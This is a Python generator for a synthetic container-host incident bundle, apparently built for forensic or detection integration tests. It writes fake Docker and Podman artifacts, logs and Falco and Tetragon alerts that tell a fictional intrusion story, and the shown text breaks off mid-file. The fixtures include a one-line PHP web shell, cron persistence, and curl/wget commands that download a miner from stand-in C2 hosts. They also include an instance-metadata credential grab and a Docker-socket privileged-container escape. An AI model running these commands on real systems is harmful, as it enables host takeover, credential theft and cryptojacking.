#!/usr/bin/env python3
"""Writes the container-host incident scenario bundle (bundle/ next to this script); see README.md for the story and
each file's provenance. Deterministic: same output on every run. Run: python3 make_host_scenario.py

File modification times cannot travel through git: the bundle's mtimes.tsv lists the times the overlay files had on
the disk image (HostIncidentScenarioIT sets them on its copy of the bundle before collecting it)."""
import base64, calendar, hashlib, json, os, shutil, time

HERE = os.path.dirname(os.path.abspath(__file__))
OUT = os.path.join(HERE, "bundle")
shutil.rmtree(OUT, ignore_errors=True)
DAY = "2026-11-23"

def ts(hms, frac=0):  # RFC 3339 UTC with nanoseconds
    return "%sT%s.%09dZ" % (DAY, hms, frac)

def epoch(hms):
    return calendar.timegm(time.strptime(DAY + "T" + hms, "%Y-%m-%dT%H:%M:%S"))

def hexid(name, n=64):
    return hashlib.sha256(name.encode()).hexdigest()[:n]

# ------------------------------------------------------------------------------------------------------ entities
ACCT, REGION, VPC = "333333333333", "us-east-1", "vpc-0333aaaa0000b0001"
# host A: Amazon Linux 2023, Docker 25.0.3, json-file logging, compose project "shop"
HOST_A, INSTANCE_A, ENI_A, IP_A = "ip-10-30-1-15.ec2.internal", "i-0abc1234def567890", "eni-0abc1234def560001", "10.30.1.15"
# host B: RHEL 9.4, Podman 4.9: rootful node-exporter, rootless ci-runner of user alice (uid 1001)
HOST_B, INSTANCE_B = "ip-10-30-2-40.ec2.internal", "i-0def5678abc901234"
ATTACKER = "203.0.113.173"
C2_DOMAIN, C2_IP = "pool.xmr-relay.example", "198.51.100.23"
WEB = hexid("shop-web-1")
BILLING = hexid("billing-worker-1")
PRIV = hexid("festive_hopper")
RUNNER = hexid("ci-runner")
EXPORTER = hexid("node-exporter")
WEB_IMAGE_ID = "sha256:" + hexid("image shop-web")
WEB_DIGEST = "sha256:" + hexid("digest shop-web")
WEB_IMAGE = "registry.example.com/shop/web:1.4.2@" + WEB_DIGEST  # compose pins the digest
BILLING_IMAGE_ID = "sha256:" + hexid("image billing")
BILLING_DIGEST = "sha256:" + hexid("digest billing")
BILLING_IMAGE = "registry.example.com/billing/worker:3.1.0@" + BILLING_DIGEST
ALPINE_ID = "sha256:" + hexid("image alpine")
WEB_MOUNT = hexid("mount shop-web-1")
BILLING_MOUNT = hexid("mount billing-worker-1")
RUNNER_LAYER = hexid("layer ci-runner")
EXPORTER_LAYER = hexid("layer node-exporter")
ROLE = "shop-web-instance-role"
SESSION = "arn:aws:sts::%s:assumed-role/%s/%s" % (ACCT, ROLE, INSTANCE_A)
KEY = "ASIAHOSTSCENARIO0001"
# the dropped miner: the same bytes on both hosts
DROPPED = b"\x7fELF\x02\x01\x01\x00" + b"kworkerd xmrig-6.21 build; pool " + C2_DOMAIN.encode() + b":443\x00" * 3
DROPPED_SHA256 = hashlib.sha256(DROPPED).hexdigest()

mtimes = []  # (path in bundle, epoch seconds)

def write(rel, data, mtime=None, mode=0o644):
    path = os.path.join(OUT, rel)
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, "wb" if isinstance(data, bytes) else "w") as f:
        f.write(data)
    os.chmod(path, mode)
    if mtime is not None:
        mtimes.append((rel, mtime))

def jl(records):
    return "".join(json.dumps(r, separators=(",", ":")) + "\n" for r in records)

def compose_labels(project, service, number=1):
    return {"com.docker.compose.project": project, "com.docker.compose.service": service,
            "com.docker.compose.container-number": str(number), "com.docker.compose.oneoff": "False",
            "com.docker.compose.project.working_dir": "/opt/" + project,
            "com.docker.compose.project.config_files": "/opt/%s/compose.yaml" % project,
            "com.docker.compose.version": "2.24.6", "com.docker.compose.image": "sha256:" + hexid("img " + service)}

# ---------------------------------------------------------------------------------------- host A: docker data root
DOCKER = "hosts/i-0abc1234def567890/var/lib/docker/"

def docker_container(cid, name, image, image_id, created, started, ip, network, labels, binds, ports, mounts,
                     privileged=False, pid_mode="", network_mode=None, cmd=None, running=True, finished=None):
    cfg = {
        "StreamConfig": {}, "State": {"Running": running, "Paused": False, "Restarting": False, "OOMKilled": False,
                                      "RemovalInProgress": False, "Dead": False, "Pid": 4100 if running else 0,
                                      "ExitCode": 0, "Error": "", "StartedAt": started,
                                      "FinishedAt": finished or "0001-01-01T00:00:00Z", "Health": None},
        "ID": cid, "Created": created, "Managed": False, "Path": (cmd or ["docker-entrypoint.sh"])[0],
        "Args": (cmd or ["docker-entrypoint.sh", "php-fpm"])[1:],
        "Config": {"Hostname": cid[:12], "Domainname": "", "User": "", "AttachStdin": False, "AttachStdout": True,
                   "AttachStderr": True, "ExposedPorts": {p: {} for p in ports}, "Tty": False, "OpenStdin": False,
                   "StdinOnce": False, "Env": ["PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin"],
                   "Cmd": cmd, "Image": image, "Volumes": None, "WorkingDir": "/var/www/html", "Entrypoint": None,
                   "OnBuild": None, "Labels": labels},
        "Image": image_id,
        "ImageManifest": None,
        "NetworkSettings": {"Bridge": "", "SandboxID": hexid("sandbox " + cid), "SandboxKey": "/var/run/docker/netns/" + hexid("ns " + cid, 12),
                            "HairpinMode": False, "LinkLocalIPv6Address": "", "LinkLocalIPv6PrefixLen": 0,
                            "Networks": {} if network is None else {network: {
                                "IPAMConfig": None, "Links": None, "Aliases": [name, cid[:12]],
                                "NetworkID": hexid("net " + network), "EndpointID": hexid("ep " + cid),
                                "Gateway": ip.rsplit(".", 1)[0] + ".1", "IPAddress": ip, "IPPrefixLen": 16,
                                "IPv6Gateway": "", "GlobalIPv6Address": "", "GlobalIPv6PrefixLen": 0,
                                "MacAddress": "02:42:ac:12:00:02", "DriverOpts": None}},
                            "Service": None, "Ports": {p: b for p, b in ports.items()}, "IsAnonymousEndpoint": False,
                            "HasSwarmEndpoint": False},
        "LogPath": "/var/lib/docker/containers/%s/%s-json.log" % (cid, cid),
        "Name": "/" + name, "Driver": "overlay2", "OS": "linux", "RestartCount": 0, "HasBeenStartedBefore": True,
        "HasBeenManuallyStopped": False,
        "MountPoints": mounts, "SecretReferences": None, "ConfigReferences": None, "MountLabel": "", "ProcessLabel": "",
        "AppArmorProfile": "" if privileged else "docker-default", "SeccompProfile": "", "NoNewPrivileges": False,
        "HostnamePath": "/var/lib/docker/containers/%s/hostname" % cid,
        "HostsPath": "/var/lib/docker/containers/%s/hosts" % cid,
        "ResolvConfPath": "/var/lib/docker/containers/%s/resolv.conf" % cid,
        "LocalLogCacheMeta": {"HaveNotifyEnabled": False},
    }
    host = {"Binds": binds, "ContainerIDFile": "", "LogConfig": {"Type": "json-file", "Config": {}},
            "NetworkMode": network_mode or network, "PortBindings": ports, "RestartPolicy": {"Name": "unless-stopped" if not privileged else "no", "MaximumRetryCount": 0},
            "AutoRemove": False, "VolumeDriver": "", "VolumesFrom": None, "CapAdd": None, "CapDrop": None,
            "CgroupnsMode": "private", "Dns": [], "DnsOptions": [], "DnsSearch": [], "ExtraHosts": [],
            "GroupAdd": None, "IpcMode": "private", "Cgroup": "", "Links": None, "OomScoreAdj": 0,
            "PidMode": pid_mode, "Privileged": privileged, "PublishAllPorts": False, "ReadonlyRootfs": False,
            "SecurityOpt": ["label=disable"] if privileged else None, "UTSMode": "", "UsernsMode": "", "ShmSize": 67108864,
            "Runtime": "runc", "Isolation": "", "CpuShares": 0, "Memory": 0, "MaskedPaths": None if privileged else
            ["/proc/asound", "/proc/acpi", "/proc/kcore", "/proc/keys", "/proc/latency_stats", "/proc/timer_list",
             "/proc/timer_stats", "/proc/sched_debug", "/proc/scsi", "/sys/firmware"],
            "ReadonlyPaths": None if privileged else ["/proc/bus", "/proc/fs", "/proc/irq", "/proc/sys", "/proc/sysrq-trigger"]}
    write(DOCKER + "containers/%s/config.v2.json" % cid, json.dumps(cfg, separators=(",", ":")))
    write(DOCKER + "containers/%s/hostconfig.json" % cid, json.dumps(host, separators=(",", ":")))

def bind_mount(src, dst, rw=True):
    return {"Source": src, "Destination": dst, "RW": rw, "Name": "", "Driver": "", "Type": "bind",
            "Propagation": "rprivate", "Spec": {"Type": "bind", "Source": src, "Target": dst},
            "SkipMountpointCreation": False}

web_ports = {"80/tcp": [{"HostIp": "0.0.0.0", "HostPort": "8080"}]}
docker_container(WEB, "shop-web-1", WEB_IMAGE, WEB_IMAGE_ID, ts("08:00:05", 118000000), ts("08:00:06", 402000000),
                 "172.18.0.2", "shop_default", compose_labels("shop", "web"),
                 ["/opt/shop/uploads:/var/www/html/uploads:rw", "/var/run/docker.sock:/var/run/docker.sock:rw"],
                 web_ports,
                 {"/var/www/html/uploads": bind_mount("/opt/shop/uploads", "/var/www/html/uploads"),
                  "/var/run/docker.sock": bind_mount("/var/run/docker.sock", "/var/run/docker.sock")})
docker_container(BILLING, "billing-worker-1", BILLING_IMAGE, BILLING_IMAGE_ID, ts("08:00:10", 7000000),
                 ts("08:00:10", 911000000), "172.19.0.2", "billing_default", compose_labels("billing", "worker"),
                 [], {}, {}, cmd=["/usr/local/bin/worker", "--queue", "invoices"])
docker_container(PRIV, "festive_hopper", "alpine:3.19", ALPINE_ID, ts("09:14:01", 377000000), ts("09:14:02", 96000000),
                 None, None, {}, ["/:/host"], {}, {"/host": bind_mount("/", "/host")}, privileged=True,
                 pid_mode="host", network_mode="host", cmd=["chroot", "/host", "sh", "-c",
                 "curl -s http://%s/k -o /usr/local/bin/kworkerd; chmod +x /usr/local/bin/kworkerd" % C2_IP],
                 running=False, finished=ts("09:14:09", 250000000))

# json-file logs (moby daemon/logger/jsonfilelog: {"log","stream","time"}; a line over 16 KiB is written as several
# entries, every one but the last without its trailing newline)
def jlog(entries):
    return "".join(json.dumps({"log": l, "stream": s, "time": t}, separators=(",", ":")) + "\n" for l, s, t in entries)

payload = base64.b64encode(hashlib.sha512(b"webshell").digest() * 400).decode()  # 27 KiB of base64
big = "[23-Nov-2026 09:10:02] WARNING: [pool www] child 41: upload rejected, body=" + payload + "\n"
pieces = [big[i:i + 16384] for i in range(0, len(big), 16384)]
web_log = [
    ("/docker-entrypoint.sh: Configuration complete; ready for start up\n", "stdout", ts("08:00:06", 611203114)),
    ("[23-Nov-2026 08:00:06] NOTICE: fpm is running, pid 1\n", "stderr", ts("08:00:06", 702551093)),
    ("198.51.100.10 - - [23/Nov/2026:08:45:12 +0000] \"GET /shop/cart HTTP/1.1\" 200 5120 \"-\" \"Mozilla/5.0\"\n",
     "stdout", ts("08:45:12", 300114200)),
    ("%s - - [23/Nov/2026:09:10:01 +0000] \"GET /upload.php HTTP/1.1\" 200 812 \"-\" \"python-requests/2.31.0\"\n" % ATTACKER,
     "stdout", ts("09:10:01", 510002003)),
]
web_log += [(p, "stderr", ts("09:10:02", 120000000 + i)) for i, p in enumerate(pieces)]
web_log += [
    ("%s - - [23/Nov/2026:09:10:02 +0000] \"POST /upload.php HTTP/1.1\" 200 64 \"-\" \"python-requests/2.31.0\"\n" % ATTACKER,
     "stdout", ts("09:10:02", 981000111)),
    ("%s - - [23/Nov/2026:09:10:29 +0000] \"GET /uploads/x.php?c=sh HTTP/1.1\" 200 0 \"-\" \"python-requests/2.31.0\"\n" % ATTACKER,
     "stdout", ts("09:10:29", 404000000)),
]
write(DOCKER + "containers/%s/%s-json.log" % (WEB, WEB), jlog(web_log))
write(DOCKER + "containers/%s/%s-json.log" % (BILLING, BILLING), jlog([
    ("worker 3.1.0 listening on queue invoices\n", "stdout", ts("08:00:11", 5000000)),
    ("processed invoice batch 2211 (42 invoices)\n", "stdout", ts("09:00:00", 10000000)),
    ("processed invoice batch 2212 (17 invoices)\n", "stdout", ts("09:12:30", 10000000)),
    ("processed invoice batch 2213 (23 invoices)\n", "stdout", ts("09:30:00", 10000000)),
]))
write(DOCKER + "containers/%s/%s-json.log" % (PRIV, PRIV), jlog([]))

# overlay2: image/overlay2/layerdb/mounts/<container>/mount-id -> overlay2/<mount id>/diff (the writable layer)
write(DOCKER + "image/overlay2/layerdb/mounts/%s/mount-id" % WEB, WEB_MOUNT)
write(DOCKER + "image/overlay2/layerdb/mounts/%s/mount-id" % BILLING, BILLING_MOUNT)
write(DOCKER + "overlay2/%s/diff/tmp/.x/kworkerd" % WEB_MOUNT, DROPPED, epoch("09:12:30"), 0o755)
write(DOCKER + "overlay2/%s/diff/etc/cron.d/kworker" % WEB_MOUNT,
      "* * * * * root /tmp/.x/kworkerd >/dev/null 2>&1\n", epoch("09:12:00"))
write(DOCKER + "overlay2/%s/diff/var/www/html/uploads/x.php" % WEB_MOUNT,
      "<?php system($_GET['c']); ?>\n", epoch("09:10:02"))
write(DOCKER + "overlay2/%s/diff/var/lib/worker/state.db" % BILLING_MOUNT, "SQLite format 3\x00", epoch("09:30:00"))

# the responder's `docker diff shop-web-1` (moby pkg/archive/changes.go over the overlay2 upper dir, sorted by path):
# every directory above an added file is listed C (copied up), though nothing but its entries changed
write("hosts/i-0abc1234def567890/responder/docker-diff-%s.txt" % WEB, "".join(l + "\n" for l in [
    "C /etc", "C /etc/cron.d", "A /etc/cron.d/kworker", "C /tmp", "A /tmp/.x", "A /tmp/.x/kworkerd", "C /var",
    "C /var/www", "C /var/www/html", "C /var/www/html/uploads", "A /var/www/html/uploads/x.php"]))

# dockerd's journal (journalctl -u docker -o json), dockerd 25.0.3 with "debug": true in daemon.json
_cursor = [0]
def journal(t_epoch_us, msg, unit="docker.service", ident="dockerd", comm="dockerd", pid="1187", host=HOST_A, extra=None):
    _cursor[0] += 1
    e = {"__CURSOR": "s=7f3a;i=%x" % (0x1000 + _cursor[0]), "__REALTIME_TIMESTAMP": str(t_epoch_us),
         "__MONOTONIC_TIMESTAMP": str(1000000 + _cursor[0]), "_BOOT_ID": "3f1c0a2b9d8e4f5a6b7c8d9e0f1a2b3c",
         "PRIORITY": "6", "_TRANSPORT": "stdout", "_PID": pid, "_UID": "0", "_GID": "0", "_COMM": comm,
         "_EXE": "/usr/bin/" + comm, "_SYSTEMD_UNIT": unit, "SYSLOG_IDENTIFIER": ident, "_HOSTNAME": host,
         "MESSAGE": msg}
    if extra: e.update(extra)
    return e

def dlog(hms, ns, level, msg, **kv):
    body = 'time="%s" level=%s msg="%s"' % (ts(hms, ns), level, msg.replace('"', '\\"'))
    for k, v in kv.items():
        body += " %s=%s" % (k, v)
    return journal(epoch(hms) * 1000000 + ns // 1000, body)

def form(obj):
    return "form data: " + json.dumps(obj, separators=(",", ":"), sort_keys=True)

web_create = {"AttachStderr": False, "AttachStdin": False, "AttachStdout": False, "Cmd": None, "Domainname": "",
              "Entrypoint": None, "Env": [], "ExposedPorts": {"80/tcp": {}}, "HostConfig": {
                  "Binds": ["/opt/shop/uploads:/var/www/html/uploads:rw", "/var/run/docker.sock:/var/run/docker.sock:rw"],
                  "NetworkMode": "shop_default", "PortBindings": web_ports, "Privileged": False,
                  "RestartPolicy": {"Name": "unless-stopped"}}, "Hostname": "", "Image": WEB_IMAGE,
              "Labels": compose_labels("shop", "web"), "OpenStdin": False, "StdinOnce": False, "Tty": False,
              "User": "", "Volumes": None, "WorkingDir": ""}
priv_create = {"Cmd": ["chroot", "/host", "sh", "-c",
                       "curl -s http://%s/k -o /usr/local/bin/kworkerd; chmod +x /usr/local/bin/kworkerd" % C2_IP],
               "HostConfig": {"Binds": ["/:/host"], "NetworkMode": "host", "PidMode": "host", "Privileged": True},
               "Image": "alpine:3.19"}
daemon = [
    dlog("07:58:01", 20311000, "info", "Starting up"),
    dlog("07:58:02", 811000000, "info", "Docker daemon", **{"commit": "f417435", "containerd-snapshotter": "false", "storage-driver": "overlay2", "version": "25.0.3"}),
    dlog("07:58:02", 901000000, "info", "Daemon has completed initialization"),
    dlog("07:58:02", 955000000, "info", "API listen on /run/docker.sock"),
    dlog("08:00:05", 101000000, "debug", "Calling POST /v1.44/containers/create?name=shop-web-1"),
    dlog("08:00:05", 101200000, "debug", form(web_create)),
    dlog("08:00:06", 300000000, "debug", "Calling POST /v1.44/containers/%s/start" % WEB),
    dlog("08:00:10", 1000000, "debug", "Calling POST /v1.44/containers/create?name=billing-worker-1"),
    dlog("08:00:10", 850000000, "debug", "Calling POST /v1.44/containers/%s/start" % BILLING),
    dlog("09:14:01", 350000000, "debug", "Calling POST /v1.44/containers/create"),
    dlog("09:14:01", 350400000, "debug", form(priv_create)),
    dlog("09:14:02", 51000000, "debug", "Calling POST /v1.44/containers/%s/start" % PRIV),
    dlog("09:14:09", 251000000, "debug", "sandbox removed", container=PRIV, module="libnetwork"),
    dlog("09:14:09", 300000000, "info", "ignoring event", container=PRIV, module="libcontainerd", namespace="moby",
         topic="/tasks/delete", type='"*events.TaskDelete"'),
]
write("hosts/i-0abc1234def567890/journal/docker-journal.json", jl(daemon))

# docker events --format '{{json .}}' (Engine API events/Message: Type, Action, Actor.ID/Attributes, scope, time, timeNano)
def dev(hms, ns, action, cid, attrs):
    return {"status": action, "id": cid, "from": attrs.get("image"), "Type": "container", "Action": action,
            "Actor": {"ID": cid, "Attributes": attrs}, "scope": "local", "time": epoch(hms), "timeNano": epoch(hms) * 10**9 + ns}
web_attrs = dict(compose_labels("shop", "web"), image=WEB_IMAGE, name="shop-web-1")
bill_attrs = dict(compose_labels("billing", "worker"), image=BILLING_IMAGE, name="billing-worker-1")
priv_attrs = {"image": "alpine:3.19", "name": "festive_hopper"}
events = [
    dev("08:00:05", 118000000, "create", WEB, web_attrs),
    dev("08:00:06", 402000000, "start", WEB, web_attrs),
    dev("08:00:10", 7000000, "create", BILLING, bill_attrs),
    dev("08:00:10", 911000000, "start", BILLING, bill_attrs),
    dev("09:14:01", 377000000, "create", PRIV, priv_attrs),
    dev("09:14:02", 96000000, "start", PRIV, priv_attrs),
    dev("09:14:09", 250000000, "die", PRIV, dict(priv_attrs, exitCode="0", execDuration="7")),
]
write("hosts/i-0abc1234def567890/docker-events.json", jl(events))

# Falco json_output (modern eBPF probe; the container plugin gave container.id only: no name, image or k8s fields)
def falco(hms, ns, rule, priority, output, fields, tags):
    fields = dict(fields)
    fields["evt.time"] = epoch(hms) * 10**9 + ns
    return {"hostname": HOST_A, "output": "%s.%09d: %s %s" % (hms, ns, priority, output), "output_fields": fields,
            "priority": priority, "rule": rule, "source": "syscall", "tags": tags, "time": ts(hms, ns)}
w12, p12 = WEB[:12], PRIV[:12]
alerts = [
    falco("09:10:30", 118402113, "Terminal shell in container", "Notice",
          "A shell was spawned in a container with an attached terminal (evt_type=execve user=www-data process=sh parent=php-fpm command=sh -c id container_id=%s)" % w12,
          {"container.id": w12, "evt.type": "execve", "proc.name": "sh", "proc.pname": "php-fpm", "proc.cmdline": "sh -c id",
           "proc.exepath": "/bin/sh", "proc.pid": 5511, "proc.ppid": 5402, "user.name": "www-data", "user.uid": 33, "proc.tty": 0},
          ["T1059", "container", "maturity_stable", "mitre_execution", "shell"]),
    falco("09:11:05", 502118000, "Contact EC2 Instance Metadata Service From Container", "Notice",
          "Outbound connection to EC2 instance metadata service (connection=172.18.0.2:45678->169.254.169.254:80 lport=45678 rport=80 command=curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/%s container_id=%s)" % (ROLE, w12),
          {"container.id": w12, "evt.type": "connect", "fd.name": "172.18.0.2:45678->169.254.169.254:80", "fd.cip": "172.18.0.2",
           "fd.cport": 45678, "fd.sip": "169.254.169.254", "fd.sport": 80, "fd.l4proto": "tcp", "proc.name": "curl",
           "proc.cmdline": "curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/" + ROLE,
           "proc.exepath": "/usr/bin/curl", "proc.pid": 5530, "user.name": "www-data"},
          ["T1552.005", "aws", "container", "maturity_sandbox", "mitre_credential_access", "network"]),
    falco("09:12:00", 7000000, "Write below etc", "Error",
          "File below /etc opened for writing (file=/etc/cron.d/kworker pcmdline=php-fpm command=sh -c echo ... > /etc/cron.d/kworker container_id=%s)" % w12,
          {"container.id": w12, "evt.type": "openat", "fd.name": "/etc/cron.d/kworker", "evt.arg.flags": "O_WRONLY|O_CREAT|O_TRUNC",
           "proc.name": "sh", "proc.cmdline": "sh -c echo '* * * * * root /tmp/.x/kworkerd' > /etc/cron.d/kworker",
           "proc.pname": "php-fpm", "proc.pid": 5540, "user.name": "root"},
          ["T1037", "filesystem", "maturity_stable", "mitre_persistence"]),
    falco("09:12:31", 220000000, "Drop and execute new binary in container", "Critical",
          "Executing binary not part of base image (proc_exe=/tmp/.x/kworkerd proc_sname=sh gparent=php-fpm proc_exe_ino_ctime=1795424550 container_id=%s)" % w12,
          {"container.id": w12, "evt.type": "execve", "proc.name": "kworkerd", "proc.exepath": "/tmp/.x/kworkerd",
           "proc.cmdline": "kworkerd --donate-level 1", "proc.pname": "sh", "proc.pid": 5560, "user.name": "root",
           "proc.is_exe_upper_layer": True},
          ["T1610", "container", "maturity_stable", "mitre_persistence", "process"]),
    falco("09:13:02", 881000000, "Outbound Connection to C2 Servers", "Warning",
          "Outbound connection to C2 server (c2_domain=%s c2_addr=%s connection=172.18.0.2:40112->%s:443 command=kworkerd --donate-level 1 container_id=%s)" % (C2_DOMAIN, C2_IP, C2_IP, w12),
          {"container.id": w12, "evt.type": "connect", "fd.name": "172.18.0.2:40112->%s:443" % C2_IP, "fd.cip": "172.18.0.2",
           "fd.cport": 40112, "fd.sip": C2_IP, "fd.sport": 443, "fd.sip.name": C2_DOMAIN, "fd.l4proto": "tcp",
           "proc.name": "kworkerd", "proc.exepath": "/tmp/.x/kworkerd", "proc.cmdline": "kworkerd --donate-level 1",
           "proc.pid": 5560, "user.name": "root"},
          ["T1071", "maturity_sandbox", "mitre_command_and_control", "network"]),
    falco("09:14:00", 990000000, "Docker Socket Connection From Container", "Warning",
          "Container process connected to the Docker socket (socket=/var/run/docker.sock command=curl --unix-socket /var/run/docker.sock -X POST http://localhost/v1.44/containers/create container_id=%s)" % w12,
          {"container.id": w12, "evt.type": "connect", "fd.name": "/var/run/docker.sock", "fd.type": "unix",
           "proc.name": "curl", "proc.exepath": "/usr/bin/curl",
           "proc.cmdline": "curl --unix-socket /var/run/docker.sock -X POST http://localhost/v1.44/containers/create",
           "proc.pid": 5581, "user.name": "root"},
          ["T1610", "container", "mitre_privilege_escalation"]),
    falco("09:14:02", 201000000, "Launch Privileged Container", "Informational",
          "Privileged container started (user=root user_loginuid=-1 command=container:%s container_id=%s)" % (p12, p12),
          {"container.id": p12, "container.privileged": True, "evt.type": "container", "proc.cmdline": "container:" + p12,
           "user.name": "root", "user.loginuid": -1},
          ["T1610", "container", "cis", "maturity_sandbox", "mitre_execution"]),
    falco("09:14:03", 511000000, "Write below root", "Error",
          "File below / or /root opened for writing (file=/host/usr/local/bin/kworkerd command=curl -s http://%s/k -o /usr/local/bin/kworkerd container_id=%s)" % (C2_IP, p12),
          {"container.id": p12, "evt.type": "openat", "fd.name": "/usr/local/bin/kworkerd", "proc.name": "curl",
           "proc.cmdline": "curl -s http://%s/k -o /usr/local/bin/kworkerd" % C2_IP, "proc.pid": 5602, "user.name": "root"},
          ["T1547", "filesystem", "maturity_sandbox", "mitre_persistence"]),
]
write("hosts/i-0abc1234def567890/var/log/falco/falco.log", jl(alerts))

# Tetragon (tetra getevents -o json) on host A, no Kubernetes: process.docker = the cgroup's container id (31 chars)
def tetra(hms, ns, kind, body):
    return {kind: body, "node_name": HOST_A, "time": ts(hms, ns)}
proc_curl = {"exec_id": "aXAtMTAtMzAtMS0xNTo1NTMw", "pid": 5530, "uid": 33, "cwd": "/var/www/html/uploads",
             "binary": "/usr/bin/curl", "arguments": "-s http://169.254.169.254/latest/meta-data/iam/security-credentials/" + ROLE,
             "flags": "execve clone", "start_time": ts("09:11:05", 500000000), "auid": 4294967295,
             "docker": WEB[:31], "parent_exec_id": "aXAtMTAtMzAtMS0xNTo1NTEx", "tid": 5530}
proc_miner = {"exec_id": "aXAtMTAtMzAtMS0xNTo1NTYw", "pid": 5560, "uid": 0, "cwd": "/tmp/.x", "binary": "/tmp/.x/kworkerd",
              "arguments": "--donate-level 1", "flags": "execve clone", "start_time": ts("09:12:31", 219000000),
              "auid": 4294967295, "docker": WEB[:31], "parent_exec_id": "aXAtMTAtMzAtMS0xNTo1NTQw", "tid": 5560}
tetragon = [
    tetra("09:11:05", 500400000, "process_exec", {"process": proc_curl,
          "parent": {"exec_id": "aXAtMTAtMzAtMS0xNTo1NTEx", "pid": 5511, "uid": 33, "binary": "/bin/sh", "arguments": "-c id", "docker": WEB[:31]}}),
    tetra("09:11:05", 502000000, "process_kprobe", {"process": proc_curl,
          "parent": {"exec_id": "aXAtMTAtMzAtMS0xNTo1NTEx", "pid": 5511, "binary": "/bin/sh"},
          "function_name": "tcp_connect", "args": [{"sock_arg": {"family": "AF_INET", "type": "SOCK_STREAM", "protocol": "IPPROTO_TCP",
          "saddr": "172.18.0.2", "daddr": "169.254.169.254", "sport": 45678, "dport": 80, "cookie": "18446623462012345678", "state": "TCP_SYN_SENT"}}],
          "action": "KPROBE_ACTION_POST", "policy_name": "connect-imds", "return_action": "KPROBE_ACTION_POST"}),
    tetra("09:12:31", 219500000, "process_exec", {"process": proc_miner,
          "parent": {"exec_id": "aXAtMTAtMzAtMS0xNTo1NTQw", "pid": 5540, "uid": 0, "binary": "/bin/sh", "arguments": "-c /tmp/.x/kworkerd", "docker": WEB[:31]}}),
]
write("hosts/i-0abc1234def567890/var/log/tetragon/tetragon.log", jl(tetragon))

# -------------------------------------------------------------------------------------- host B: Podman on RHEL 9
ALICE_STORE = "hosts/i-0def5678abc901234/home/alice/.local/share/containers/storage/"
ROOT_STORE = "hosts/i-0def5678abc901234/var/lib/containers/storage/"

def storage_container(cid, name, image, image_name, layer, created):
    meta = json.dumps({"image-name": image_name, "image-id": image, "name": name, "created-at": epoch(created)})
    return {"id": cid, "names": [name], "image": image, "layer": layer, "metadata": meta,
            "big-data-names": ["volatile-container.json"], "created": ts(created, 0),
            "flags": {"MountLabel": "system_u:object_r:container_file_t:s0:c200,c517",
                      "ProcessLabel": "system_u:system_r:container_t:s0:c200,c517"}}

write(ALICE_STORE + "overlay-containers/containers.json", json.dumps([
    storage_container(RUNNER, "ci-runner", ALPINE_ID[7:], "docker.io/library/alpine:3.19", RUNNER_LAYER, "11:40:00")],
    separators=(",", ":")))
write(ROOT_STORE + "overlay-containers/containers.json", json.dumps([
    storage_container(EXPORTER, "node-exporter", hexid("image node-exporter"), "quay.io/prometheus/node-exporter:v1.8.1",
                      EXPORTER_LAYER, "07:50:00")], separators=(",", ":")))
write(ALICE_STORE + "overlay/%s/diff/tmp/kworkerd" % RUNNER_LAYER, DROPPED, epoch("11:40:04"), 0o755)
write(ROOT_STORE + "overlay/%s/diff/var/lib/node_exporter/textfile/.keep" % EXPORTER_LAYER, "", epoch("07:50:01"))

runner_cmd = "wget -qO /tmp/kworkerd http://%s/k && chmod +x /tmp/kworkerd && exec /tmp/kworkerd --donate-level 1" % C2_DOMAIN
oci = {"ociVersion": "1.1.0", "process": {"terminal": False, "user": {"uid": 0, "gid": 0, "umask": 18},
        "args": ["/bin/sh", "-c", runner_cmd],
        "env": ["PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin", "container=podman", "HOSTNAME=" + RUNNER[:12]],
        "cwd": "/", "capabilities": {k: ["CAP_CHOWN", "CAP_DAC_OVERRIDE", "CAP_FOWNER", "CAP_FSETID", "CAP_KILL",
        "CAP_NET_BIND_SERVICE", "CAP_SETFCAP", "CAP_SETGID", "CAP_SETPCAP", "CAP_SETUID", "CAP_SYS_CHROOT"]
        for k in ("bounding", "effective", "permitted")}, "rlimits": [{"type": "RLIMIT_NOFILE", "hard": 524288, "soft": 524288}],
        "oomScoreAdj": 0, "selinuxLabel": "system_u:system_r:container_t:s0:c200,c517"},
       "root": {"path": "/home/alice/.local/share/containers/storage/overlay/%s/merged" % RUNNER_LAYER},
       "hostname": RUNNER[:12],
       "mounts": [{"destination": "/proc", "type": "proc", "source": "proc", "options": ["nosuid", "noexec", "nodev"]},
                  {"destination": "/etc/hosts", "type": "bind", "source": "/home/alice/.local/share/containers/storage/overlay-containers/%s/userdata/hosts" % RUNNER,
                   "options": ["bind", "rprivate"]}],
       "annotations": {"io.container.manager": "libpod", "io.podman.annotations.autoremove": "FALSE",
                       "org.opencontainers.image.stopSignal": "15", "org.systemd.property.KillSignal": "15"},
       "linux": {"uidMappings": [{"containerID": 0, "hostID": 1001, "size": 1}, {"containerID": 1, "hostID": 231072, "size": 65536}],
                 "gidMappings": [{"containerID": 0, "hostID": 1001, "size": 1}, {"containerID": 1, "hostID": 231072, "size": 65536}],
                 "namespaces": [{"type": "pid"}, {"type": "network", "path": "/run/user/1001/netns/netns-" + hexid("netns", 8)},
                                {"type": "ipc"}, {"type": "uts"}, {"type": "mount"}, {"type": "cgroup"}, {"type": "user"}],
                 "seccomp": {"defaultAction": "SCMP_ACT_ERRNO", "defaultErrnoRet": 38, "architectures": ["SCMP_ARCH_X86_64"], "syscalls": []},
                 "cgroupsPath": "user.slice:libpod:%s" % RUNNER,
                 "maskedPaths": ["/proc/acpi", "/proc/kcore", "/proc/keys", "/sys/firmware"], "readonlyPaths": ["/proc/bus", "/proc/sys"]}}
write(ALICE_STORE + "overlay-containers/%s/userdata/config.json" % RUNNER, json.dumps(oci, indent=4))
# the miner is XMRig 6.21.0 renamed, run with --no-color: its banner, then base/io/log's "[date time.ms] " prefix and
# the network tag; src/net/Network.cpp onActive logs "use <mode> <host>:<port> <TLS version> <address>" when the pool
# connection is up, setJob "new job from <host>:<port> diff ... algo ... height ..." (a banner line is long enough to
# be written in two pieces here: conmon's k8s-file P/F)
ctr = lambda hms, ns: ts(hms, ns).replace("Z", "+00:00")
write(ALICE_STORE + "overlay-containers/%s/userdata/ctr.log" % RUNNER, "".join([
    "%s stdout F  * ABOUT        kworkerd/6.21.0 gcc/11.2.0 (built for Linux x86-64, 64 bit)\n" % ctr("11:40:05", 1020304),
